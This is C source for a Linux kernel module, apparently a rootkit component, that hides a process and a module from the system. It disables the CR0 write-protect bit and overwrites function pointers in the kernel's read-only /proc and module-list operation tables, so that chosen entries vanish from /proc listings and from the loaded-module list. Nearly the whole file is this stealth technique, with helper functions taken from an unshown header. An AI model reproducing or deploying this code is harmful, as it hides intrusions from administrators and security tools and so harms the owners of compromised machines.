/* Hides a process and a module by way of tables of functions that the kernel keeps read-only: that of /proc's
 * operations and that of the listing of modules. */
#include <linux/fs.h>
#include <linux/seq_file.h>

#include "hook.h"

static int (*iterate)(struct file *, struct dir_context *);
static int (*show)(struct seq_file *, void *);

/* A listing that leaves one entry out, with the caller's own behind it. */
struct filter {
    struct dir_context context;
    struct dir_context *rest;
};

static bool entry(struct dir_context *context, const char *name, int length, loff_t at, u64 inode, unsigned type)
{
    struct dir_context *rest = container_of(context, struct filter, context)->rest;
    rest->pos = context->pos;
    return hidden_entry(name, length) || rest->actor(rest, name, length, at, inode, type);
}

static int list(struct file *file, struct dir_context *context)
{
    struct filter filter = { { .actor = entry, .pos = context->pos }, context };
    int answer = iterate(file, &filter.context);
    context->pos = filter.context.pos;
    return answer;
}

static int line(struct seq_file *file, void *position)
{
    return hidden_module(position) ? 0 : show(file, position);
}

/* Replaces the pointer to a function in a table; the result is what was there. */
static void *replace(const char *table, size_t words, const char *function, void *by)
{
    void **at = (void **)symbol(table), *original = (void *)symbol(function);
    unsigned long flags, cr0;
    size_t word;

    for (word = 0; at && original && word < words; word++) {
        if (at[word] != original)
            continue;
        local_irq_save(flags);
        asm volatile("mov %%cr0, %0" : "=r"(cr0));
        asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~0x10000ul) : "memory");
        at[word] = by;
        asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
        local_irq_restore(flags);
        return original;
    }
    return NULL;
}

static int __init start(void)
{
    iterate = (void *)symbol("proc_root_readdir");
    show = (void *)symbol("m_show");
    if (!replace("proc_root_operations", sizeof(struct file_operations) / 8, "proc_root_readdir", list))
        return -ENOENT;
    return replace("modules_op", sizeof(struct seq_operations) / 8, "m_show", line) ? 0 : -ENOENT;
}
module_init(start);
